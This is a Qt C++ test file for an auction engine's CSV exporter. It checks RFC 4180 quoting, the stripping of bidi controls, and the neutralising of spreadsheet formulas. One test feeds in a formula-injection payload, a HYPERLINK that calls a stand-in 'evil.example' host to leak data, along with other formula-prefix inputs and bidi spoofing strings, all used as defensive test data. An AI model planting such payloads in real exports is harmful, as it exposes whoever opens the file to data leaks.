// The CSV exports as an accountant and the operator rely on them: every bid and each day's winner,
// files a spreadsheet reads correctly (RFC 4180) and cannot be tricked into running, with what
// bidders typed shown without the controls that would make it display as something else.

#include "CsvExporter.h"
#include "EngineFixture.h"

#include <QDir>
#include <QFile>
#include <QTest>

using namespace sb::auction;
using namespace Qt::StringLiterals;

namespace sb::auction::test {

namespace {

QStringList filesIn(const QString& directory)
{
    return QDir(directory).entryList(QDir::Files, QDir::Name);
}

QByteArray readAll(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// A strict RFC 4180 reader: CRLF after every record, fields quoted when they need to be, "" for a
// quote inside a quoted field. nullopt when the text breaks any of that.
std::optional<QList<QStringList>> parseCsv(const QString& text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool inQuotes = false;
    bool wasQuoted = false;
    qsizetype i = 0;
    const qsizetype n = text.size();
    while (i < n) {
        const QChar c = text[i];
        if (inQuotes) {
            if (c == u'"') {
                if (i + 1 < n && text[i + 1] == u'"') {
                    field += u'"';
                    i += 2;
                    continue;
                }
                inQuotes = false;
                ++i;
                if (i < n && text[i] != u',' && text[i] != u'\r')
                    return std::nullopt; // text after a closing quote
                continue;
            }
            field += c;
            ++i;
            continue;
        }
        if (c == u'"') {
            if (!field.isEmpty() || wasQuoted)
                return std::nullopt; // a quote inside an unquoted field
            inQuotes = true;
            wasQuoted = true;
            ++i;
            continue;
        }
        if (c == u',' || c == u'\r') {
            if (c == u'\r' && (i + 1 >= n || text[i + 1] != u'\n'))
                return std::nullopt; // CR without LF
            row.append(field);
            field.clear();
            wasQuoted = false;
            if (c == u'\r') {
                rows.append(row);
                row.clear();
                ++i;
            }
            ++i;
            continue;
        }
        if (c == u'\n')
            return std::nullopt; // a bare line feed outside quotes
        field += c;
        ++i;
    }
    if (inQuotes || !field.isEmpty() || !row.isEmpty())
        return std::nullopt; // unterminated quote or a last record without CRLF
    return rows;
}

struct CsvFile
{
    QString raw;
    QStringList header;
    QList<QStringList> rows;

    QString cell(qsizetype row, const QString& column) const
    {
        const qsizetype index = header.indexOf(column);
        if (index < 0 || row >= rows.size())
            return u"<missing>"_s;
        return rows[row].value(index, u"<missing>"_s);
    }
    qsizetype rowWhere(const QString& column, const QString& value) const
    {
        for (qsizetype r = 0; r < rows.size(); ++r) {
            if (cell(r, column) == value)
                return r;
        }
        return -1;
    }
};

std::optional<CsvFile> readCsv(const QString& path)
{
    CsvFile csv;
    csv.raw = QString::fromUtf8(readAll(path));
    const auto parsed = parseCsv(csv.raw);
    if (!parsed || parsed->isEmpty())
        return std::nullopt;
    csv.header = parsed->constFirst();
    csv.rows = parsed->mid(1);
    for (const QStringList& row : std::as_const(csv.rows)) {
        if (row.size() != csv.header.size())
            return std::nullopt;
    }
    return csv;
}

// A file that holds a schema version this build does not know.

} // namespace

class TestCsvExport : public QObject
{
    Q_OBJECT

private slots:
    void csvHasTheBidsAndTheWinner();
    void csvQuotesLikeRfc4180();
    void csvDefusesFormulas();
};

void TestCsvExport::csvHasTheBidsAndTheWinner()
{
    MarathonConfig config = simpleConfig();
    for (int i = 1; i <= config.days; ++i) {
        Lot lot;
        lot.title = u"Noun %1"_s.arg(i);
        lot.tokenId = QString::number(100 + i);
        config.lots.append(lot);
    }
    EngineFixture fx(config);
    fx.at(kDay1Open + 2 * kMinute);
    const BidOutcome alice = fx.bid(u"alice"_s, u"0.05 ETH"_s);
    QCOMPARE(alice.kind, BidOutcome::Kind::Accepted);
    fx.clock.advance(kMinute);
    const BidOutcome bob = fx.bid(u"bob"_s, u"0.051 ETH"_s); // needs 0.0525
    QCOMPARE(bob.kind, BidOutcome::Kind::Rejected);
    fx.clock.advance(kMinute);
    const BidOutcome carol = fx.bid(u"carol"_s, u"Ξ0.06"_s);
    QCOMPARE(carol.kind, BidOutcome::Kind::Accepted);
    fx.at(kDay1Close + 20 * kSecond);
    QCOMPARE(fx.eventsOfType(EventType::AuctionWinner).size(), 1);

    const QString folder = fx.dir.filePath(u"export"_s);
    QString error;
    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));

    const auto bids = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY2(bids, "bids.csv is not valid RFC 4180");
    QCOMPARE(bids->header,
             (QStringList{u"bid_id"_s, u"day"_s, u"lot"_s, u"source"_s, u"source_id"_s,
                          u"bidder_id"_s, u"bidder"_s, u"amount_eth"_s, u"amount_gwei"_s,
                          u"posted_utc"_s, u"received_utc"_s, u"status"_s, u"reason_code"_s,
                          u"reason"_s, u"note"_s, u"text"_s}));
    QCOMPARE(bids->rows.size(), 3);

    QCOMPARE(bids->cell(0, u"bid_id"_s), QString::number(alice.bidId));
    QCOMPARE(bids->cell(0, u"day"_s), u"1"_s);
    QCOMPARE(bids->cell(0, u"lot"_s), u"1"_s);
    QCOMPARE(bids->cell(0, u"source"_s), u"test"_s);
    QCOMPARE(bids->cell(0, u"bidder"_s), u"alice"_s);
    QCOMPARE(bids->cell(0, u"amount_eth"_s), u"0.05"_s);
    QCOMPARE(bids->cell(0, u"amount_gwei"_s), u"50000000"_s);
    QCOMPARE(bids->cell(0, u"posted_utc"_s), u"2026-03-01T12:02:00.000Z"_s);
    QCOMPARE(bids->cell(0, u"received_utc"_s), u"2026-03-01T12:02:00.000Z"_s);
    QCOMPARE(bids->cell(0, u"status"_s), u"accepted"_s);
    QCOMPARE(bids->cell(0, u"reason_code"_s), QString());
    QCOMPARE(bids->cell(0, u"reason"_s), QString());
    QCOMPARE(bids->cell(0, u"text"_s), u"0.05 ETH"_s);

    QCOMPARE(bids->cell(1, u"bidder"_s), u"bob"_s);
    QCOMPARE(bids->cell(1, u"amount_eth"_s), u"0.051"_s);
    QCOMPARE(bids->cell(1, u"status"_s), u"rejected"_s);
    QCOMPARE(bids->cell(1, u"reason_code"_s), u"below_increment"_s);
    QVERIFY(!bids->cell(1, u"reason"_s).isEmpty());
    QCOMPARE(bids->cell(1, u"reason"_s), fx.store->bid(bob.bidId).value()->rejection->message);

    QCOMPARE(bids->cell(2, u"amount_eth"_s), u"0.06"_s);
    QCOMPARE(bids->cell(2, u"text"_s), u"Ξ0.06"_s);

    const auto results = readCsv(QDir(folder).filePath(u"results.csv"_s));
    QVERIFY2(results, "results.csv is not valid RFC 4180");
    QCOMPARE(results->header,
             (QStringList{u"day"_s, u"lot"_s, u"title"_s, u"token_id"_s, u"state"_s, u"start_utc"_s,
                          u"end_utc"_s, u"winner_bidder_id"_s, u"winner"_s, u"amount_eth"_s,
                          u"amount_gwei"_s, u"winning_bid_id"_s, u"settlement_note"_s}));
    QCOMPARE(results->rows.size(), 3);
    QCOMPARE(results->cell(0, u"day"_s), u"1"_s);
    QCOMPARE(results->cell(0, u"title"_s), u"Noun 1"_s);
    QCOMPARE(results->cell(0, u"token_id"_s), u"101"_s);
    QCOMPARE(results->cell(0, u"state"_s), u"PROCESSING"_s); // won, awaiting settlement
    QCOMPARE(results->cell(0, u"start_utc"_s), u"2026-03-01T12:00:00.000Z"_s);
    QCOMPARE(results->cell(0, u"end_utc"_s), u"2026-03-01T13:00:00.000Z"_s);
    QCOMPARE(results->cell(0, u"winner"_s), u"carol"_s);
    QCOMPARE(results->cell(0, u"winner_bidder_id"_s), u"carol"_s);
    QCOMPARE(results->cell(0, u"amount_eth"_s), u"0.06"_s);
    QCOMPARE(results->cell(0, u"amount_gwei"_s), u"60000000"_s);
    QCOMPARE(results->cell(0, u"winning_bid_id"_s), QString::number(carol.bidId));
    QCOMPARE(results->cell(1, u"day"_s), u"2"_s);
    QCOMPARE(results->cell(1, u"title"_s), u"Noun 2"_s);
    QCOMPARE(results->cell(1, u"state"_s), u"PENDING"_s);
    QCOMPARE(results->cell(1, u"winner"_s), QString());
    QCOMPARE(results->cell(1, u"amount_eth"_s), QString());

    // Exporting again replaces the files (the operator exports after each day).
    fx.at(utcMs(2026, 3, 2, 12, 1));
    QCOMPARE(fx.bid(u"dave"_s, u"1,000.5 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));
    const auto again = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY(again);
    QCOMPARE(again->rows.size(), 4);
    QCOMPARE(again->cell(3, u"day"_s), u"2"_s);
    QCOMPARE(again->cell(3, u"amount_eth"_s), u"1000.5"_s); // no thousands separator in a cell
    QCOMPARE(again->cell(3, u"amount_gwei"_s), u"1000500000000"_s);
    QCOMPARE(filesIn(folder), (QStringList{u"bids.csv"_s, u"results.csv"_s}));
}

void TestCsvExport::csvQuotesLikeRfc4180()
{
    MarathonConfig config = simpleConfig();
    for (int i = 1; i <= config.days; ++i) {
        Lot lot;
        lot.title = u"Noun %1, \"the\" one"_s.arg(i);
        config.lots.append(lot);
    }
    EngineFixture fx(config);
    fx.at(kDay1Open);
    const QString comma = u"Smith, \"Jr\""_s;
    const QString lines = u"first line\nsecond line\r\nthird"_s;
    QCOMPARE(fx.bid(comma, u"0.05 ETH"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.bid(lines, u"0.06 ETH, final offer"_s).kind, BidOutcome::Kind::Accepted);
    QCOMPARE(fx.bid(u"plain"_s, u"0.07 ETH"_s).kind, BidOutcome::Kind::Accepted);
    // Bidi and zero-width controls never reach a spreadsheet: it would show them reordered.
    QCOMPARE(fx.bid(u"\u202Emallory\u200B"_s, u"bid \u202E5.0 ETH \u2066hi\u2069"_s).kind,
             BidOutcome::Kind::Rejected);

    const QString folder = fx.dir.filePath(u"export"_s);
    QString error;
    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));
    const auto bids = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY2(bids, "bids.csv is not valid RFC 4180");
    QCOMPARE(bids->rows.size(), 4);
    QCOMPARE(bids->cell(3, u"bidder"_s), u"mallory"_s);
    QCOMPARE(bids->cell(3, u"text"_s), u"bid 5.0 ETH hi"_s);
    QCOMPARE(bids->cell(3, u"reason_code"_s), u"bad_number"_s);
    QCOMPARE(bids->cell(0, u"bidder"_s), comma);
    QCOMPARE(bids->cell(1, u"bidder"_s), lines);
    QCOMPARE(bids->cell(1, u"text"_s), u"0.06 ETH, final offer"_s);
    QCOMPARE(bids->cell(2, u"bidder"_s), u"plain"_s);

    // As written: doubled quotes inside quotes, line breaks kept inside the quoted field,
    // plain cells left bare.
    QVERIFY(bids->raw.contains(u",\"Smith, \"\"Jr\"\"\","_s));
    QVERIFY(bids->raw.contains(u",\"first line\nsecond line\r\nthird\","_s));
    QVERIFY(bids->raw.contains(u",plain,0.07,70000000,"_s));
    QVERIFY(bids->raw.endsWith(u"\r\n"_s));

    const auto results = readCsv(QDir(folder).filePath(u"results.csv"_s));
    QVERIFY2(results, "results.csv is not valid RFC 4180");
    QCOMPARE(results->cell(2, u"title"_s), u"Noun 3, \"the\" one"_s);

    QCOMPARE(CsvExporter::escapeCell(u"a,b"_s), u"\"a,b\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"say \"hi\""_s), u"\"say \"\"hi\"\"\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"a\nb"_s), u"\"a\nb\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"a\rb"_s), u"\"a\rb\""_s);
    QCOMPARE(CsvExporter::escapeCell(u"0.05"_s), u"0.05"_s);
    QCOMPARE(CsvExporter::escapeCell(QString()), QString());
}

void TestCsvExport::csvDefusesFormulas()
{
    EngineFixture fx;
    fx.at(kDay1Open);
    const QString hyperlink = u"=HYPERLINK(\"http://evil.example/?leak\",\"Click me\")"_s;
    const QStringList dangerous = {hyperlink,        u"+1 555 0100"_s, u"-2+3"_s,
                                   u"@SUM(A1:A9)"_s, u"\t=1+1"_s,      u"\r=1+1"_s};
    Gwei amount = eth("0.05");
    for (const QString& name : dangerous) {
        QCOMPARE(fx.bid(name, amount.toEthString()).kind, BidOutcome::Kind::Accepted);
        amount = *amount.checkedAdd(eth("0.01"));
    }
    QCOMPARE(fx.bid(u"carol"_s, u"@everyone 0.5 ETH"_s).kind, BidOutcome::Kind::Accepted);

    const QString folder = fx.dir.filePath(u"export"_s);
    QString error;
    QVERIFY2(CsvExporter::exportAll(*fx.store, folder, &error), qPrintable(error));
    const auto bids = readCsv(QDir(folder).filePath(u"bids.csv"_s));
    QVERIFY2(bids, "bids.csv is not valid RFC 4180");
    QCOMPARE(bids->rows.size(), dangerous.size() + 1);

    // A spreadsheet shows these as text: the leading apostrophe stops it evaluating them.
    for (int i = 0; i < dangerous.size(); ++i) {
        QCOMPARE(bids->cell(i, u"bidder"_s), u"'"_s + dangerous[i]);
        QCOMPARE(bids->cell(i, u"bidder_id"_s), u"'"_s + dangerous[i]);
    }
    QCOMPARE(bids->cell(dangerous.size(), u"text"_s), u"'@everyone 0.5 ETH"_s);
    QCOMPARE(bids->cell(dangerous.size(), u"bidder"_s), u"carol"_s);
    // No cell anywhere in the file starts with a formula character.
    for (const QStringList& row : bids->rows) {
        for (const QString& cell : row)
            QVERIFY2(cell.isEmpty() || !u"=+-@\t\r"_s.contains(cell.front()), qPrintable(cell));
    }
    QVERIFY(!bids->raw.contains(u",=HYPERLINK"_s));
    QVERIFY(!bids->raw.contains(u"\"=HYPERLINK"_s));
}

} // namespace sb::auction::test

QTEST_GUILESS_MAIN(sb::auction::test::TestCsvExport)
#include "tst_csvexport.moc"
